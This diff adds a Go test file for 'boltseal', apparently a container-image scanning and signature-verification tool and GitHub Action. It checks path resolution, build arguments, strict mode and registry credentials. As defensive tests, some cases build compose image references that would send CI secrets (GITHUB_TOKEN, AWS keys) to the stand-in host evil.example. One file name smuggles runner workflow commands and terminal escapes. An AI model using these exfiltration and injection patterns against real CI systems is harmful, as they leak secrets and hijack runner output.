@@ -1,0 +1,320 @@
+package cli_test
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"fmt"
+	"maps"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/boltseal/boltseal/cli"
+	"github.com/boltseal/boltseal/internal/registrytest"
+	"github.com/boltseal/boltseal/internal/runnertest"
+)
+
+// workspaceOf makes a workspace of files.
+func workspaceOf(t *testing.T, files map[string]string) string {
+	t.Helper()
+	dir := t.TempDir()
+	for name, text := range files {
+		full := filepath.Join(dir, filepath.FromSlash(name))
+		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(full, []byte(text), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return dir
+}
+
+// A list is what boltseal scan --output json writes.
+type list struct {
+	Version int
+	Uses    []struct {
+		Image, Text, Kind, File, Stage, Error string
+		Line, Column                          int
+	}
+	Warnings []struct {
+		Message, File string
+		Line          int
+	}
+}
+
+// places are the uses as IMAGE FILE:LINE:COLUMN, or with the error in place of
+// the image.
+func (l list) places() []string {
+	var out []string
+	for _, u := range l.Uses {
+		what := u.Image
+		if u.Error != "" {
+			what = "error"
+		}
+		out = append(out, fmt.Sprintf("%s %s:%d:%d", what, u.File, u.Line, u.Column))
+	}
+	return out
+}
+
+// runScan runs boltseal scan in dir.
+func runScan(t *testing.T, dir string, vars map[string]string, args ...string) (list, int) {
+	t.Helper()
+	var out, errs bytes.Buffer
+	lookup := func(name string) (string, bool) { v, ok := vars[name]; return v, ok }
+	c := cli.Command{Stdin: strings.NewReader(""), Stdout: &out, Stderr: &errs, LookupEnv: lookup, Dir: dir}
+	code := c.Main(t.Context(), append([]string{"boltseal", "scan", "--output", "json"}, args...))
+	var l list
+	if code == cli.ExitPassed || code == cli.ExitClosed {
+		if err := json.Unmarshal(out.Bytes(), &l); err != nil {
+			t.Fatalf("%v\n%s%s", err, out.String(), errs.String())
+		}
+	}
+	return l, code
+}
+
+// Paths are relative to the workspace, wherever they were written from.
+func TestScanPaths(t *testing.T) {
+	t.Parallel()
+	dir := workspaceOf(t, map[string]string{
+		"repo/Dockerfile":             "FROM root\n",
+		"repo/api/Dockerfile":         "FROM api\n",
+		"repo/api/compose.yaml":       "services: {a: {build: ..}}\n",
+		"repo/deploy/pod.yaml":        "kind: Pod\nspec: {containers: [{image: pod}]}\n",
+		"other/.git/HEAD":             "",
+		"other/Dockerfile":            "FROM other\n",
+		"other/sub/Dockerfile":        "FROM sub\n",
+		"other/sub/compose.yaml":      "services: {a: {build: ..}}\n",
+		"loose/compose.yaml":          "services: {a: {build: ../other}}\n",
+		"loose/kubernetes:Dockerfile": "FROM colon\n",
+	})
+	repo, other := filepath.Join(dir, "repo"), filepath.Join(dir, "other")
+	in := func(parts ...string) string {
+		return filepath.ToSlash(filepath.Join(append([]string{dir}, parts...)...))
+	}
+	const (
+		root = "docker.io/library/root:latest Dockerfile:1:6"
+		api  = "docker.io/library/api:latest api/Dockerfile:1:6"
+	)
+	for _, tc := range []struct {
+		name, dir string
+		args      []string
+		code      int
+		want      []string
+	}{
+		{"all", repo, nil, 0, []string{root, api}},
+		{"the folder itself", repo, []string{"."}, 0, []string{root, api}},
+		{"its absolute path", repo, []string{repo}, 0, []string{root, api}},
+		{"a folder, whose build leads out of it", repo, []string{"api"}, 0, []string{root, api}},
+		{"absolute", repo, []string{filepath.Join(repo, "api", "Dockerfile")}, 0, []string{api}},
+		{"as an argument and by --file", repo, []string{"api/Dockerfile", "-f", "Dockerfile"}, 0, []string{root, api}},
+		{"a format", repo, []string{"kubernetes:deploy"}, 0, []string{"docker.io/library/pod:latest deploy/pod.yaml:2:29"}},
+		{"of an absolute path", repo, []string{"kubernetes:" + filepath.Join(repo, "deploy")}, 0, []string{"docker.io/library/pod:latest deploy/pod.yaml:2:29"}},
+		{"outside", repo, []string{"../other"}, 0, []string{"docker.io/library/other:latest ../other/Dockerfile:1:6", "docker.io/library/sub:latest ../other/sub/Dockerfile:1:6"}},
+		{"outside, absolute", repo, []string{other}, 0, []string{"docker.io/library/other:latest " + in("other/Dockerfile:1:6"), "docker.io/library/sub:latest " + in("other/sub/Dockerfile:1:6")}},
+		{"a file outside, within its repository", repo, []string{"../other/sub/compose.yaml"}, 0, []string{"docker.io/library/other:latest ../other/Dockerfile:1:6"}},
+		{"a file further up", filepath.Join(other, "sub"), []string{"../Dockerfile"}, 0, []string{"docker.io/library/other:latest ../Dockerfile:1:6"}},
+		{"a file beside, in a repository", filepath.Join(repo, "api"), []string{"../../other/sub/Dockerfile"}, 0, []string{"docker.io/library/sub:latest ../../other/sub/Dockerfile:1:6"}},
+		{"a file outside, whose build leads further", repo, []string{"../loose/compose.yaml"}, 1, []string{"error ../loose/compose.yaml:1:23"}},
+		{"both", repo, []string{"Dockerfile", "../other/Dockerfile"}, 0, []string{root, "docker.io/library/other:latest ../other/Dockerfile:1:6"}},
+		{"no such folder", repo, []string{"../none"}, 2, nil},
+		{"glob outside", repo, []string{"../other/*"}, 2, nil},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			l, code := runScan(t, tc.dir, nil, tc.args...)
+			if got := l.places(); code != tc.code || !slices.Equal(got, tc.want) {
+				t.Errorf("exit %d, %q; want %d, %q", code, got, tc.code, tc.want)
+			}
+		})
+	}
+}
+
+// A reference is sent to the registry that it names. What a file puts into one
+// must not be a secret of the job.
+func TestScanEnvironment(t *testing.T) {
+	t.Parallel()
+	vars := map[string]string{"TAG": "v1", "EMPTY": ""}
+	secrets := []string{"GITHUB_TOKEN", "NPM_TOKEN", "my_password", "AWS_SECRET_ACCESS_KEY", "API_KEY", "SSH_PRIVATE_KEY", "ACTIONS_ID_TOKEN_REQUEST_URL", "BOLTSEAL_INPUTS", "Db_Passwd", "GCP_CREDENTIALS"}
+	text := "services:\n  known: {image: 'evil.example/a:${TAG}'}\n  empty: {image: 'evil.example/b:${EMPTY-x}y'}\n  unset: {image: 'evil.example/c:${UNSET-x}y'}\n"
+	for i, name := range secrets {
+		vars[name] = "s3cr3t"
+		text += fmt.Sprintf("  s%d: {image: 'evil.example/%d:${%s}'}\n", i, i, name)
+	}
+	dir := workspaceOf(t, map[string]string{
+		"compose.yaml":    text,
+		"docker-bake.hcl": "variable \"NPM_TOKEN\" { default = \"none\" }\ntarget \"default\" {\n  dockerfile-inline = \"FROM evil.example/bake:${NPM_TOKEN}\"\n}\n",
+	})
+	l, code := runScan(t, dir, vars)
+	got := map[string]int{}
+	for _, u := range l.Uses {
+		if strings.Contains(u.Image, "s3cr3t") {
+			t.Errorf("%s:%d: the secret is in %s", u.File, u.Line, u.Image)
+		}
+		if u.Error != "" {
+			got["error"]++
+		} else {
+			got[u.Image]++
+		}
+	}
+	want := map[string]int{"evil.example/a:v1": 1, "evil.example/b:y": 1, "evil.example/c:xy": 1, "evil.example/bake:none": 1, "error": len(secrets)}
+	if code != 1 || !maps.Equal(got, want) {
+		t.Errorf("exit %d, %v, want %v", code, got, want)
+	}
+}
+
+// Build arguments come from the environment only where they are asked for.
+func TestScanBuildArgs(t *testing.T) {
+	t.Parallel()
+	dir := workspaceOf(t, map[string]string{"Dockerfile": "ARG BASE=none\nFROM ${BASE}\n"})
+	vars := map[string]string{"BASE": "alpine", "NPM_TOKEN": "x"}
+	for _, tc := range []struct {
+		args []string
+		want string
+	}{
+		{nil, "docker.io/library/none:latest"},
+		{[]string{"--build-arg", "BASE"}, "docker.io/library/alpine:latest"},
+		{[]string{"--build-args", "BASE=debian=x"}, ""},
+		{[]string{"--build-arg", "BASE=debian", "--build-arg", "BASE=busybox"}, "docker.io/library/busybox:latest"},
+		{[]string{"--build-contexts", "docker.io/library/none=docker-image://alpine:3"}, "docker.io/library/alpine:3"},
+		{[]string{"--build-context", "none=./lib"}, "nothing"},
+	} {
+		l, _ := runScan(t, dir, vars, tc.args...)
+		got := "nothing"
+		if len(l.Uses) > 0 {
+			got = l.Uses[0].Image
+		}
+		if got != tc.want {
+			t.Errorf("%q: %s, want %s", tc.args, got, tc.want)
+		}
+	}
+}
+
+// What is only warned of fails with --strict.
+func TestScanStrict(t *testing.T) {
+	t.Parallel()
+	dir := workspaceOf(t, map[string]string{".github/workflows/ci.yml": "jobs:\n  a:\n    container: node:${{ vars.NODE }}\n  b: {container: alpine}\n"})
+	l, code := runScan(t, dir, nil)
+	if code != 0 || len(l.Uses) != 1 || len(l.Warnings) != 1 || l.Warnings[0].Line != 3 {
+		t.Errorf("exit %d, %+v", code, l)
+	}
+	l, code = runScan(t, dir, nil, "--strict")
+	if want := []string{"error .github/workflows/ci.yml:3:16", "docker.io/library/alpine:latest .github/workflows/ci.yml:4:18"}; code != 1 || !slices.Equal(l.places(), want) || len(l.Warnings) != 0 {
+		t.Errorf("exit %d, %+v", code, l)
+	}
+}
+
+// The Action searches the workspace where it is given neither images nor files,
+// and marks the lines.
+func TestActionFiles(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t, registrytest.Options{})
+	w.signLegacy("team/app", w.image("team/app"), by())
+	w.image("team/unsigned")
+	app, unsigned := w.reg.Host()+"/team/app:v1", w.reg.Host()+"/team/unsigned:v1"
+	dir := workspaceOf(t, map[string]string{
+		"Dockerfile":               "FROM " + app + " AS base\nFROM base\nCOPY --from=" + app + " / /\n",
+		"bad.Dockerfile":           "ARG TAG\nFROM " + unsigned + "\nCOPY --from=" + unsigned + " / /\nFROM " + unsigned + "${TAG}\nCOPY --from=0 / /\n",
+		".github/workflows/ci.yml": "jobs:\n  a:\n    container: node:${{ vars.NODE }}\n",
+	})
+	for _, tc := range []struct {
+		name    string
+		change  func(map[string]string)
+		code    int
+		verdict string
+		marks   []string
+		images  int
+	}{
+		{"whole workspace", with("mode", "enforce"), 1, "unsigned", []string{"error bad.Dockerfile:2:6", "error bad.Dockerfile:4:6", "error bad.Dockerfile:3:13", "warning .github/workflows/ci.yml:3:16"}, 3},
+		{"one file", with("files", "Dockerfile"), 0, "verified", nil, 1},
+		{"excluded", with("exclude", "*.Dockerfile"), 0, "verified", []string{"warning .github/workflows/ci.yml:3:16"}, 1},
+		{"strict", func(in map[string]string) { in["exclude"], in["strict"] = "*.Dockerfile", "true" }, 1, "unresolved", []string{"error .github/workflows/ci.yml:3:16"}, 2},
+		{"images only", with("images", app), 0, "verified", nil, 1},
+		{"images and files", func(in map[string]string) { in["images"], in["files"] = unsigned, "Dockerfile" }, 1, "unsigned", nil, 2},
+		{"with build arguments", func(in map[string]string) { in["files"], in["build-args"] = "bad.Dockerfile", "# the tag\nTAG=.1" }, 1, "unsigned", []string{"error bad.Dockerfile:2:6", "error bad.Dockerfile:4:6", "error bad.Dockerfile:3:13"}, 2},
+		{"nothing found", func(in map[string]string) { in["exclude"] = "**" }, 1, "undecided", nil, 0},
+		{"nothing found, which is allowed", func(in map[string]string) { in["exclude"], in["allow-empty"] = "**", "true" }, 0, "undecided", nil, 0},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			j := newJob(t)
+			j.workspace = dir
+			got := j.run(w.inputs("", tc.change))
+			var marks []string
+			for _, c := range got.commands {
+				if f := c.Properties["file"]; f != "" && (c.Name == "error" || c.Name == "warning") {
+					marks = append(marks, fmt.Sprintf("%s %s:%s:%s", c.Name, f, c.Properties["line"], c.Properties["col"]))
+				}
+			}
+			var images []struct{ Reference string }
+			if err := json.Unmarshal([]byte(got.outputs["images"]), &images); err != nil {
+				t.Fatal(err)
+			}
+			if got.code != tc.code || got.outputs["verdict"] != tc.verdict || got.outputs["passed"] != fmt.Sprint(tc.verdict == "verified") || !slices.Equal(marks, tc.marks) || len(images) != tc.images {
+				t.Errorf("exit %d, %s, passed=%s, marks %q, %d images\n%s", got.code, got.outputs["verdict"], got.outputs["passed"], marks, len(images), got.log)
+			}
+		})
+	}
+}
+
+// On pull_request_target anybody may have written the files: they see no
+// environment at all.
+func TestActionFilesBlind(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t, registrytest.Options{})
+	w.signLegacy("team/app", w.image("team/app"), by())
+	dir := workspaceOf(t, map[string]string{"compose.yaml": "services: {a: {image: '" + w.reg.Host() + "/team/app:${TAG}'}}\n"})
+	for event, want := range map[string]string{"push": "verified", "pull_request": "verified", "pull_request_target": "unresolved"} {
+		j := newJob(t)
+		j.workspace = dir
+		j.vars["GITHUB_EVENT_NAME"], j.vars["TAG"] = event, "v1"
+		if got := j.run(w.inputs("")); got.outputs["verdict"] != want {
+			t.Errorf("%s: %s, want %s\n%s", event, got.outputs["verdict"], want, got.log)
+		}
+	}
+	j := newJob(t)
+	j.workspace = dir
+	j.vars["GITHUB_EVENT_NAME"], j.vars["TAG"] = "pull_request_target", "v1"
+	if got := j.run(w.inputs("", with("build-args", "TAG"))); got.code != cli.ExitUsage || !strings.Contains(got.log, "TAG has no value") {
+		t.Errorf("exit %d: %s", got.code, got.log)
+	}
+}
+
+// A password goes to one registry. What is not known is on none.
+func TestScanCredentials(t *testing.T) {
+	t.Parallel()
+	dir := workspaceOf(t, map[string]string{"Dockerfile": "ARG X\nFROM $X\n", "two.Dockerfile": "FROM a.example/x\nCOPY --from=b.example/x / /\n"})
+	_, root := newInstance(t)
+	for file, want := range map[string]string{"Dockerfile": "unresolved", "two.Dockerfile": "a.example and b.example"} {
+		var out bytes.Buffer
+		noWait := func(ctx context.Context, _ time.Duration) error { return ctx.Err() }
+		c := cli.Command{Stdin: strings.NewReader("password"), Stdout: &out, Stderr: &out, LookupEnv: lookup(env), Sleep: noWait, Dir: dir}
+		c.Main(t.Context(), []string{"boltseal", "verify", "-f", file, "--trusted-root", root, "--certificate-identity", identity, "--certificate-oidc-issuer", issuer, "--registry-username", "me", "--registry-password-stdin"})
+		if !strings.Contains(out.String(), want) {
+			t.Errorf("%s: %s", file, out.String())
+		}
+	}
+}
+
+// Names of files are text from outside.
+func TestScanHostileNames(t *testing.T) {
+	t.Parallel()
+	name := "a\n::error::x\x1b[2J##[add-mask]\u202e.Dockerfile"
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, name), []byte("FROM $X\n"), 0o600); err != nil {
+		t.Skipf("this system has no such names: %v", err)
+	}
+	var out bytes.Buffer
+	c := cli.Command{Stdin: strings.NewReader(""), Stdout: &out, Stderr: &out, LookupEnv: lookup(env), Dir: dir}
+	for _, output := range []string{"text", "json"} {
+		out.Reset()
+		if code := c.Main(t.Context(), []string{"boltseal", "scan", "--output", output}); code != 1 {
+			t.Errorf("exit %d", code)
+		}
+		if found := runnertest.Commands(out.String()); len(found) > 0 || strings.ContainsAny(out.String(), "\x1b\u202e") {
+			t.Errorf("the runner obeys %+v in\n%s", found, out.String())
+		}
+	}
+}
